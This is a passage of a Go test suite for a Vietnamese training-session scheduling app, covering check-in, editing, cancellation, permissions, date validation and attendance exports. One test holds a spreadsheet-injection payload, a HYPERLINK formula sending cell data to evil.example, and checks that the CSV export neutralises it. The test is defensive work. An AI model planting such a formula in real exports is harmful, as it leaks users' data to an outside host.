		t.Error("the check-in was not recorded")
	}

	// A CTV of another district is refused, in Vietnamese.
	other := s.Forms(t, s.LoginDemo(t, s.Find(t, "ctv", "LT").Email))
	if r := other.Get(page); r.Status != 404 || !strings.Contains(r.Body, "không điểm danh được") {
		t.Errorf("another district's CTV opens the page: %d", r.Status)
	}
	if r := other.Post(page, url.Values{"code": {want}}); r.Status != 404 || !strings.Contains(r.Body, "không điểm danh được") {
		t.Errorf("another district's CTV checks in: %d", r.Status)
	}
	// After the end the page says check-in is closed.
	clk.Set(start.Add(4 * time.Hour))
	late := s.Forms(t, s.LoginDemo(t, s.Find(t, "team_leader", "NT").Email))
	if r := late.Get(page); r.Status != 200 || !strings.Contains(r.Body, "hết giờ điểm danh") || strings.Contains(r.Body, `id="checkin-form"`) {
		t.Errorf("after the end: %d", r.Status)
	}
}

// A coordinator reschedules and cancels from the session page with plain
// forms (a browser without JavaScript): the stored session changes as the
// API would change it and the invitees are mailed; a bad date comes back
// beside its field in Vietnamese with nothing changed; a cancellation
// needs a reason and a confirmation.
func TestRescheduleAndCancelFromTheSessionPage(t *testing.T) {
	t.Parallel()
	srv := mailtest.New(t)
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday), SMTPURL: srv.URL()})
	coord := s.LoginDemo(t, apptest.Coordinator)
	x := newSession(t, s, coord, times(wed, 3*time.Hour))
	a, b := s.Find(t, "ctv", "NT"), s.Find(t, "team_leader", "NT")
	if r := s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": []string{a.ID, b.ID}}); r.Status != 200 {
		t.Fatalf("invite: %d %s", r.Status, r.Body)
	}
	if _, err := s.App.Scheduling.Answer(context.Background(), s.App.Scheduling.Token(x.ID, a.ID), "accept"); err != nil {
		t.Fatal(err)
	}
	srv.Wait(t, 2)

	f := s.Forms(t, coord)
	page := "/sessions/" + x.ID
	if r := f.Get(page); r.Status != 200 || !strings.Contains(r.Body, `href="`+page+`/edit"`) || !strings.Contains(r.Body, `href="`+page+`/cancel"`) {
		t.Fatalf("the session page offers no edit or cancel: %d\n%s", r.Status, r.Body)
	}
	r := f.Get(page + "/edit")
	for _, want := range []string{`id="edit-form"`, `value="2026-12-09"`, `value="08:00"`, `value="11:00"`, `value="` + x.Location + `"`, `value="ThS. Lê Văn Hùng"`} {
		if r.Status != 200 || !strings.Contains(r.Body, want) {
			t.Fatalf("the edit form lacks %s: %d\n%s", want, r.Status, r.Body)
		}
	}
	if strings.Contains(r.Body, `name="apply"`) {
		t.Error("a single session is offered the series choice")
	}
	form := url.Values{"title": {x.Title}, "date": {"2026-12-10"}, "start": {"09:00"}, "end": {"11:30"}, "location": {x.Location},
		"trainer": {x.Trainer}, "capacity": {""}}

	// An impossible date: 400, the problem beside the field, nothing changed.
	bad := url.Values{}
	for k, v := range form {
		bad[k] = v
	}
	bad.Set("date", "2026-02-30")
	bad.Set("capacity", "nhiều")
	r = f.Post(page+"/edit", bad)
	if r.Status != 400 {
		t.Fatalf("an impossible date: %d", r.Status)
	}
	for _, want := range []string{"Biểu mẫu còn lỗi", `id="err-date"`, "Hãy nhập ngày diễn ra buổi tập huấn.", `id="err-capacity"`, `value="2026-02-30"`, `value="nhiều"`} {
		if !strings.Contains(r.Body, want) {
			t.Errorf("the refused form lacks %q", want)
		}
	}
	bad.Set("date", "2026-12-10")
	bad.Set("capacity", "")
	bad.Set("end", "08:00")
	if r = f.Post(page+"/edit", bad); r.Status != 400 || !strings.Contains(r.Body, `id="err-end"`) || !strings.Contains(r.Body, "Giờ kết thúc phải sau giờ bắt đầu") ||
		!strings.Contains(r.Body, `id="end" name="end" value="08:00" required aria-invalid="true" aria-describedby="err-end"`) {
		t.Errorf("an end before the start: %d", r.Status)
	}
	if got := getSession(t, s, x.ID); !got.StartsAt.Equal(wed) || got.Sequence != 0 {
		t.Fatalf("a refused form changed the session: %v, sequence %d", got.StartsAt, got.Sequence)
	}
	if n := len(srv.Messages()); n != 2 {
		t.Errorf("%d messages after refused forms, want the 2 invitations", n)
	}

	// The new day and time: stored, answers back to pending, everyone mailed.
	r = f.Post(page+"/edit", form)
	if r.Status != 303 || r.Location != page+"?updated=1" {
		t.Fatalf("reschedule: %d %q\n%s", r.Status, r.Location, r.Body)
	}
	got := getSession(t, s, x.ID)
	if !got.StartsAt.Equal(time.Date(2026, 12, 10, 2, 0, 0, 0, time.UTC)) || !got.EndsAt.Equal(time.Date(2026, 12, 10, 4, 30, 0, 0, time.UTC)) ||
		got.Sequence != 1 || got.Accepted() != 0 {
		t.Errorf("stored after the reschedule: %v–%v, sequence %d, %d accepted", got.StartsAt, got.EndsAt, got.Sequence, got.Accepted())
	}
	mails := srv.Wait(t, 4)
	for _, m := range mails[2:] {
		if !strings.HasPrefix(m.Subject, "Đổi lịch tập huấn") || !strings.Contains(partOf(t, m, "text/plain").Body, "09:00–11:30, ngày 10/12/2026") {
			t.Errorf("reschedule mail %q:\n%s", m.Subject, partOf(t, m, "text/plain").Body)
		}
	}
	if shown := f.Get(r.Location); !strings.Contains(shown.Body, "Đã lưu thay đổi của 1 buổi tập huấn.") || !strings.Contains(shown.Body, "09:00–11:30, 10/12/2026") {
		t.Errorf("the session page after the edit:\n%s", shown.Body)
	}
	if r = f.Post(page+"/edit", form); r.Status != 303 || r.Location != page+"?updated=0" {
		t.Errorf("the same form again: %d %q", r.Status, r.Location)
	}

	// Cancelling needs a reason and the confirmation.
	if r = f.Get(page + "/cancel"); r.Status != 200 || !strings.Contains(r.Body, `id="cancel-form"`) || !strings.Contains(r.Body, `name="confirm"`) {
		t.Fatalf("cancel form: %d\n%s", r.Status, r.Body)
	}
	r = f.Post(page+"/cancel", url.Values{"reason": {"  "}})
	if r.Status != 400 || !strings.Contains(r.Body, `id="err-reason"`) || !strings.Contains(r.Body, "Hãy nhập lý do hủy") ||
		!strings.Contains(r.Body, `id="err-confirm"`) || !strings.Contains(r.Body, "Hãy đánh dấu ô xác nhận hủy.") {
		t.Errorf("a cancellation without reason or confirmation: %d\n%s", r.Status, r.Body)
	}
	if r = f.Post(page+"/cancel", url.Values{"reason": {"Giảng viên bận đột xuất"}}); r.Status != 400 || !strings.Contains(r.Body, `value="Giảng viên bận đột xuất"`) {
		t.Errorf("a cancellation without confirmation: %d", r.Status)
	}
	if got := getSession(t, s, x.ID); got.Status != scheduling.StatusScheduled {
		t.Fatal("a refused cancellation cancelled")
	}
	r = f.Post(page+"/cancel", url.Values{"reason": {"Giảng viên bận đột xuất"}, "confirm": {"yes"}})
	if r.Status != 303 || r.Location != page+"?cancelled=1" {
		t.Fatalf("cancel: %d %q\n%s", r.Status, r.Location, r.Body)
	}
	if got := getSession(t, s, x.ID); got.Status != scheduling.StatusCancelled || got.CancelReason != "Giảng viên bận đột xuất" {
		t.Errorf("stored after the cancellation: %s %q", got.Status, got.CancelReason)
	}
	mails = srv.Wait(t, 6)
	for _, m := range mails[4:] {
		cal := partOf(t, m, "text/calendar")
		if !strings.HasPrefix(m.Subject, "Hủy buổi tập huấn") || cal.Params["method"] != "CANCEL" ||
			!strings.Contains(partOf(t, m, "text/plain").Body, "Lý do: Giảng viên bận đột xuất") {
			t.Errorf("cancellation mail %q %v", m.Subject, cal.Params)
		}
	}
	shown := f.Get(r.Location)
	if !strings.Contains(shown.Body, "Đã hủy 1 buổi tập huấn") || strings.Contains(shown.Body, `href="`+page+`/edit"`) {
		t.Errorf("the session page after cancelling:\n%s", shown.Body)
	}
	if r = f.Post(page+"/edit", form); r.Status != 422 || !strings.Contains(r.Body, "đã bị hủy") {
		t.Errorf("editing a cancelled session: %d", r.Status)
	}
}

// "This and all following": the edit form of an occurrence of a series
// changes it and the later ones, not the earlier; the choice is checked.
func TestEditAFollowingPartOfASeriesFromThePage(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday)})
	f := s.Forms(t, s.LoginDemo(t, apptest.Coordinator))
	f.Get("/sessions/new")
	r := f.Post("/sessions", url.Values{"title": {"Sinh hoạt chuyên đề"}, "date": {"2026-12-09"}, "start": {"08:00"}, "end": {"10:00"},
		"location": {"Phòng họp Trung tâm"}, "area_code": {"LT"}, "repeat": {"3"}})
	if r.Status != 303 {
		t.Fatalf("series: %d %s", r.Status, r.Body)
	}
	first := getSession(t, s, strings.TrimSuffix(strings.TrimPrefix(r.Location, "/sessions/"), "?created=3"))
	all, err := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{SeriesID: first.SeriesID})
	if err != nil || len(all) != 3 {
		t.Fatalf("series: %d %v", len(all), err)
	}
	second := "/sessions/" + all[1].ID
	if r := f.Get(second + "/edit"); !strings.Contains(r.Body, `name="apply" value="following"`) {
		t.Fatalf("no series choice:\n%s", r.Body)
	}
	form := url.Values{"title": {"Sinh hoạt chuyên đề"}, "date": {"2026-12-16"}, "start": {"08:00"}, "end": {"10:00"},
		"location": {"Hội trường UBND huyện Long Thành"}, "apply": {"all"}}
	if r := f.Post(second+"/edit", form); r.Status != 400 || !strings.Contains(r.Body, `id="err-apply"`) {
		t.Errorf("a bad series choice: %d", r.Status)
	}
	form.Set("apply", "following")
	if r := f.Post(second+"/edit", form); r.Status != 303 || r.Location != second+"?updated=2" {
		t.Fatalf("following: %d %q\n%s", r.Status, r.Location, r.Body)
	}
	for i, want := range []string{"Phòng họp Trung tâm", "Hội trường UBND huyện Long Thành", "Hội trường UBND huyện Long Thành"} {
		if got := getSession(t, s, all[i].ID); got.Location != want || !got.StartsAt.Equal(all[i].StartsAt) {
			t.Errorf("occurrence %d: %q at %v, want %q at %v", i+1, got.Location, got.StartsAt, want, all[i].StartsAt)
		}
	}
}

// Team leaders and leadership read the session page without the edit and
// cancel forms, and may neither open nor post them.
func TestOnlyStaffEditOrCancelFromThePage(t *testing.T) {
	t.Parallel()
	s, _, x := started(t, apptest.Options{Clock: clock.NewManual(monday)}, wed, 3*time.Hour)
	page := "/sessions/" + x.ID
	for _, who := range []string{s.Find(t, "team_leader", "NT").Email, apptest.Leadership} {
		f := s.Forms(t, s.LoginDemo(t, who))
		r := f.Get(page)
		if r.Status != 200 || strings.Contains(r.Body, page+"/edit") || strings.Contains(r.Body, page+"/cancel") {
			t.Errorf("%s: the session page offers editing: %d", who, r.Status)
		}
		for _, path := range []string{page + "/edit", page + "/cancel"} {
			if r := f.Get(path); r.Status != 403 {
				t.Errorf("%s opens %s: %d", who, path, r.Status)
			}
		}
		f.Get(page) // a fresh CSRF token: the refusal is the policy's
		if r := f.Post(page+"/edit", url.Values{"title": {"x"}, "date": {"2026-12-10"}, "start": {"08:00"}, "end": {"09:00"}, "location": {"y"}}); r.Status != 403 {
			t.Errorf("%s posts the edit form: %d", who, r.Status)
		}
		if r := f.Post(page+"/cancel", url.Values{"reason": {"x"}, "confirm": {"yes"}}); r.Status != 403 {
			t.Errorf("%s posts the cancel form: %d", who, r.Status)
		}
	}
	if got := getSession(t, s, x.ID); got.Status != scheduling.StatusScheduled || !got.StartsAt.Equal(wed) || got.Title != x.Title {
		t.Errorf("the session changed: %+v", got)
	}
}

// A name typed as a formula reaches the attendance CSV as text: a
// spreadsheet program shows it, and never runs it.
func TestAttendanceExportIsNamedForWhatItCovers(t *testing.T) {
	t.Parallel()
	s, coord, x := started(t, apptest.Options{Clock: clock.NewManual(monday)}, wed, 3*time.Hour)
	for _, tc := range []struct{ query, want string }{
		{"session_id=" + x.ID, "diem-danh-KC-101-2026-12-09"},
		{"from=2026-12-01&to=2026-12-31&area_code=NT", "diem-danh-NT-2026-12-01_2026-12-31"},
		{"from=2026-12-01&to=2026-12-31", "diem-danh-2026-12-01_2026-12-31"},
		{"week=2026-W50", "diem-danh-2026-W50"},
	} {
		for _, ext := range []string{"csv", "xlsx"} {
			r := s.Do(t, "GET", "/api/v1/attendance/export."+ext+"?"+tc.query, coord, nil)
			want := `attachment; filename="` + tc.want + "." + ext + `"`
			if got := r.Header.Get("Content-Disposition"); r.Status != 200 || got != want {
				t.Errorf("%s export of %s: %d %q, want %q", ext, tc.query, r.Status, got, want)
			}
		}
	}
}

func TestAttendanceCSVNeverCarriesAFormula(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t)
	coord := s.LoginDemo(t, apptest.Coordinator)
	person := s.Find(t, "ctv", "NT")
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	if r := s.Do(t, "PATCH", "/api/v1/collaborators/"+person.ID, coord, map[string]any{"full_name": formula}); r.Status != 200 {
		t.Fatalf("rename: %d %s", r.Status, r.Body)
	}
	start := time.Now().Add(-time.Hour).Truncate(time.Minute) // under way: attendance can be taken
	x := newSession(t, s, coord, with(times(start, 2*time.Hour), map[string]any{"trainer": "+84 Trần Văn Tâm", "location": "@Hội trường"}))
	if r := s.Do(t, "PUT", "/api/v1/sessions/"+x.ID+"/attendance", coord, []map[string]string{{"collaborator_id": person.ID, "status": "present"}}); r.Status != 200 {
		t.Fatalf("attendance: %d %s", r.Status, r.Body)
	}
	r := s.Do(t, "GET", "/api/v1/attendance/export.csv?session_id="+x.ID, coord, nil)
	if r.Status != 200 {
		t.Fatalf("csv: %d %s", r.Status, r.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv rows %v, %v", rows, err)
	}
	line := rows[1]
	if line[7] != "'"+formula || line[5] != "'+84 Trần Văn Tâm" || line[4] != "'@Hội trường" {
		t.Errorf("csv line %q", line)
	}
	for i, cell := range line {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %d starts a formula: %q", i, cell)
		}
	}
	// Asked from an English page, the export is still one language: its
	// header and its statuses in Vietnamese (it used to mix a Vietnamese
	// header with "Present").
	en := s.Do(t, "GET", "/api/v1/attendance/export.csv?lang=en&session_id="+x.ID, coord, nil)
	rows, err = csv.NewReader(bytes.NewReader(bytes.TrimPrefix(en.Body, []byte("\xef\xbb\xbf")))).ReadAll()
	if en.Status != 200 || err != nil || len(rows) != 2 || rows[0][10] != "Trạng thái" || rows[1][10] != "Có mặt" {
		t.Errorf("the export asked in English: %d %q, %v", en.Status, rows, err)
	}
}

// Session dates are bounded at the API and the form: year 1 and year 9999
// are typing mistakes; the text is stored in NFC without invisible
// characters.
func TestSessionIntakeBoundsDatesAndNormalisesText(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC)
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(now)})
	coord := s.LoginDemo(t, apptest.Coordinator)
	ok := now.Add(48 * time.Hour)
	x := newSession(t, s, coord, with(times(ok, 2*time.Hour), map[string]any{"title": norm.NFD.String("Tập huấn\u200b kỹ năng"), "location": norm.NFD.String(" Hội trường xã Phước An "), "trainer": norm.NFD.String("ThS. Lê Văn Hùng\u2060")}))
	if x.Title != "Tập huấn kỹ năng" || x.Location != "Hội trường xã Phước An" || x.Trainer != "ThS. Lê Văn Hùng" {
		t.Errorf("stored text %q %q %q", x.Title, x.Location, x.Trainer)
	}
	for _, v := range []string{x.Title, x.Location, x.Trainer} {
		if !norm.NFC.IsNormalString(v) {
			t.Errorf("%q is not NFC", v)
		}
	}

	at := func(ts string) map[string]any {
		st, err := time.Parse(time.RFC3339, ts)
		if err != nil {
			t.Fatal(err)
		}
		return map[string]any{"title": "x", "location": "y", "starts_at": ts, "ends_at": st.Add(time.Hour).Format(time.RFC3339)}
	}
	for _, tc := range []struct {
		name, method, path string
		body               map[string]any
		field              string
	}{
		{"year 1", "POST", "/api/v1/sessions", at("0001-01-01T08:00:00+07:00"), "starts_at"},
		{"year 9999", "POST", "/api/v1/sessions", at("9999-12-31T08:00:00+07:00"), "starts_at"},
		{"1999", "POST", "/api/v1/sessions", at("1999-12-31T08:00:00+07:00"), "starts_at"},
		{"eleven years ahead", "POST", "/api/v1/sessions", at(now.AddDate(11, 0, 0).Format(time.RFC3339)), "starts_at"},
		{"moved to year 1", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"starts_at": "0001-01-01T08:00:00Z"}, "starts_at"},
		{"ending in 9999", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"ends_at": "9999-01-01T08:00:00Z"}, "ends_at"},
	} {
		r := s.Do(t, tc.method, tc.path, coord, tc.body)
		if r.Status != 400 || !r.Problem(t).HasField(tc.field) {
			t.Errorf("%s: %d %s, want 400 naming %s", tc.name, r.Status, r.Body, tc.field)
		}
	}
	// The edges are fine.
	newSession(t, s, coord, at("2000-01-01T08:00:00+07:00"))
	newSession(t, s, coord, at(now.AddDate(10, 0, -1).Format(time.RFC3339)))

	// The form says so on the date field, in Vietnamese.
	f := s.Forms(t, coord)
	f.Get("/sessions/new")
	form := url.Values{"title": {"Tập huấn"}, "course_code": {"KC-101"}, "date": {"9999-12-09"}, "start": {"08:00"},
		"end": {"11:30"}, "location": {"Hội trường"}, "area_code": {"NT"}}
	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) || !strings.Contains(p.Body, "Ngày tập huấn phải từ 01/01/2000") {
		t.Errorf("form with year 9999: %d", p.Status)
	}
	form.Set("date", "0001-01-01")
	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) {
		t.Errorf("form with year 1: %d", p.Status)
	}
	all, err := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{})
	if err != nil || len(all) != 3 {
		t.Errorf("%d sessions after the refused ones, want 3 (%v)", len(all), err)
	}
	got := getSession(t, s, x.ID)
	if !got.StartsAt.Equal(x.StartsAt) || !got.EndsAt.Equal(x.EndsAt) {
		t.Errorf("a refused PATCH moved the session: %v–%v", got.StartsAt, got.EndsAt)
	}
}

// filterRef is the autofilter of a sheet with a header and one row, A to K.
var filterRef = regexp.MustCompile(`<autoFilter ref="\$?A\$?1:\$?K\$?2"`)

// The attendance XLSX stores dates and times as Excel numbers with a date
// or time format (so they sort and filter as dates), hours as a number,
// freezes its header row, filters every column and sets column widths.
func TestAttendanceXLSXHasRealDatesAFrozenHeaderAndAFilter(t *testing.T) {
	t.Parallel()
	clk := clock.NewManual(time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC))
	start := time.Date(2026, 12, 7, 1, 0, 0, 0, time.UTC) // 08:00 in Vietnam
	s, coord, x := started(t, apptest.Options{Clock: clk}, start, 3*time.Hour+30*time.Minute)
	invitee := s.Find(t, "ctv", "NT")
	s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": []string{invitee.ID}})
	s.Do(t, "PUT", "/api/v1/sessions/"+x.ID+"/attendance", coord, []map[string]string{{"collaborator_id": invitee.ID, "status": "present"}})

	r := s.Do(t, "GET", "/api/v1/attendance/export.xlsx?session_id="+x.ID, coord, nil)
	if r.Status != 200 {
		t.Fatalf("xlsx: %d %s", r.Status, r.Body)
	}
	f, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatal(err)
	}
	sheet := f.GetSheetList()[0]
	raw := func(cell string) string {
		v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	shown := func(cell string) string {
		v, err := f.GetCellValue(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	// 2026-12-07 is day 46363 of Excel's calendar; 08:00 a third of a day.
	for cell, want := range map[string]float64{"A2": 46363, "B2": 8.0 / 24, "C2": 11.5 / 24, "D2": 3.5} {
		v, err := strconv.ParseFloat(raw(cell), 64)
		if err != nil || v-want > 1e-9 || want-v > 1e-9 {
			t.Errorf("%s holds %q, want the number %v", cell, raw(cell), want)
		}
		if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("%s is text", cell)
		}
	}
	for cell, want := range map[string]string{"A2": "07/12/2026", "B2": "08:00", "C2": "11:30", "D2": "3.50", "A1": "Ngày", "H2": invitee.FullName} {
		if got := shown(cell); got != want {
			t.Errorf("%s shows %q, want %q", cell, got, want)
		}
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v (%v): the header row is not frozen", panes, err)
	}
	if w, _ := f.GetColWidth(sheet, "E"); w < 20 {
		t.Errorf("column E (place) is %v wide", w)
	}
	zr, err := zip.NewReader(bytes.NewReader(r.Body), int64(len(r.Body)))
	if err != nil {
		t.Fatal(err)
	}
	filtered := false
	for _, zf := range zr.File {
		if strings.HasPrefix(zf.Name, "xl/worksheets/") {
			rc, _ := zf.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			filtered = filtered || filterRef.Match(b)
		}
	}
	if !filtered {
		t.Error("the sheet has no autofilter over its header and rows")
	}
}
